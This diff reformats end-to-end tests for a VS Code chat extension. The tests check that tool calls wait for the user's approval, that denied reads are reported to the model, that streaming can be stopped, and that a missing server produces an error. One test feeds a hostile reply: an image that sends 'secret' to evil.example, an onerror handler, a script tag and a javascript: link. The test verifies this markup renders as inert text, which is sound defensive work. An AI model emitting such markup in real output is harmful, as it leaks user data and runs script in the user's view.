@@ -19,7 +19,10 @@ describe('Keel chat in VS Code (e2e)', function () {
 	});
 
 	it('streams an answer grounded in a file read the user approved on its card', async () => {
-		double().script(toolCalls([{ name: 'read_file', arguments: { path: 'README.md' } }], { split: 4, delayMs: 20 }), text('The README says:\n\n```\n{{lastToolResult}}\n```', { chunks: 6, delayMs: 30 }));
+		double().script(
+			toolCalls([{ name: 'read_file', arguments: { path: 'README.md' } }], { split: 4, delayMs: 20 }),
+			text('The README says:\n\n```\n{{lastToolResult}}\n```', { chunks: 6, delayMs: 30 }),
+		);
 		const chat = await keel.webview();
 		await ask(chat, 'What does the README say?');
 		const card = chat.locator(testId('tool-card'));
@@ -27,7 +30,11 @@ describe('Keel chat in VS Code (e2e)', function () {
 		await chat.locator(`${testId('tool-card')}[data-status="awaitingApproval"]`).waitFor();
 		assert.strictEqual(await card.locator(testId('tool-title')).textContent(), 'Read README.md');
 		assert.match((await card.locator(testId('tool-arguments')).textContent()) ?? '', /"path": "README.md"/);
-		assert.strictEqual(await chat.locator(testId('message-assistant')).count(), 0, 'nothing is answered before approval');
+		assert.strictEqual(
+			await chat.locator(testId('message-assistant')).count(),
+			0,
+			'nothing is answered before approval',
+		);
 		await card.locator(testId('tool-approve')).click();
 		await chat.locator(`${testId('tool-card')}[data-status="succeeded"]`).waitFor();
 		assert.strictEqual(await card.locator(testId('tool-status')).textContent(), 'done');
@@ -35,12 +42,19 @@ describe('Keel chat in VS Code (e2e)', function () {
 		const answer = chat.locator(`${testId('message-assistant')}[data-streaming="false"]`);
 		await answer.waitFor();
 		assert.match((await answer.locator('pre').textContent()) ?? '', /1 {2}# Fixture workspace/);
-		assert.strictEqual(await chat.locator(testId('tool-approve')).count(), 0, 'the decision buttons are gone once decided');
+		assert.strictEqual(
+			await chat.locator(testId('tool-approve')).count(),
+			0,
+			'the decision buttons are gone once decided',
+		);
 		await keel.screenshot('chat-approved-read');
 	});
 
 	it('tells the model a denied read did not run, and shows its answer', async () => {
-		double().script(toolCalls([{ name: 'read_file', arguments: { path: 'src/app.ts' } }]), text('I could not read it: {{lastToolResult}}'));
+		double().script(
+			toolCalls([{ name: 'read_file', arguments: { path: 'src/app.ts' } }]),
+			text('I could not read it: {{lastToolResult}}'),
+		);
 		const chat = await keel.webview();
 		await ask(chat, 'Read src/app.ts');
 		await chat.locator(`${testId('tool-card')}[data-status="awaitingApproval"]`).waitFor();
@@ -49,14 +63,21 @@ describe('Keel chat in VS Code (e2e)', function () {
 		await chat.locator(`${testId('tool-card')}[data-status="denied"]`).waitFor();
 		const answer = chat.locator(`${testId('message-assistant')}[data-streaming="false"]`);
 		await answer.waitFor();
-		assert.match((await answer.textContent()) ?? '', /I could not read it: The user denied this call; it did not run\. Reason: keep that file private/);
+		assert.match(
+			(await answer.textContent()) ?? '',
+			/I could not read it: The user denied this call; it did not run\. Reason: keep that file private/,
+		);
 		const sent = double().modelRequests[1].body.messages.find((m: { role: string }) => m.role === 'tool');
 		assert.match(sent.content, /denied/);
 		await keel.screenshot('chat-denied-read');
 	});
 
 	it('renders model markup as inert text: no script, no event handler, no remote image', async () => {
-		double().script(text('Look: <img src="https://evil.example/x.png?d=secret" onerror="document.title=\'pwned\'"> <script>document.title="pwned"</script> [link](javascript:alert(1)) done'));
+		double().script(
+			text(
+				'Look: <img src="https://evil.example/x.png?d=secret" onerror="document.title=\'pwned\'"> <script>document.title="pwned"</script> [link](javascript:alert(1)) done',
+			),
+		);
 		const chat = await keel.webview();
 		await ask(chat, 'say something nasty');
 		const answer = chat.locator(`${testId('message-assistant')}[data-streaming="false"]`);
@@ -70,7 +91,9 @@ describe('Keel chat in VS Code (e2e)', function () {
 	});
 
 	it('stops a running answer with the stop button and keeps what was shown', async () => {
-		double().script(withFaults(text('Counting one two three four five six seven eight', { chunks: 8 }), { stallAfter: 3 }));
+		double().script(
+			withFaults(text('Counting one two three four five six seven eight', { chunks: 8 }), { stallAfter: 3 }),
+		);
 		const chat = await keel.webview();
 		await ask(chat, 'count slowly');
 		await chat.locator(testId('message-assistant')).waitFor();
@@ -92,7 +115,10 @@ describe('Keel chat without a model server (e2e)', function () {
 		await chat.locator(testId('send')).click();
 		const banner = chat.locator(testId('error-banner'));
 		await banner.waitFor();
-		assert.match((await banner.textContent()) ?? '', /No model server answered at http:\/\/127\.0\.0\.1:9\/v1 — .*keel\.model\.baseUrl/);
+		assert.match(
+			(await banner.textContent()) ?? '',
+			/No model server answered at http:\/\/127\.0\.0\.1:9\/v1 — .*keel\.model\.baseUrl/,
+		);
 		await keel.screenshot('chat-no-model-server');
 	});
 });
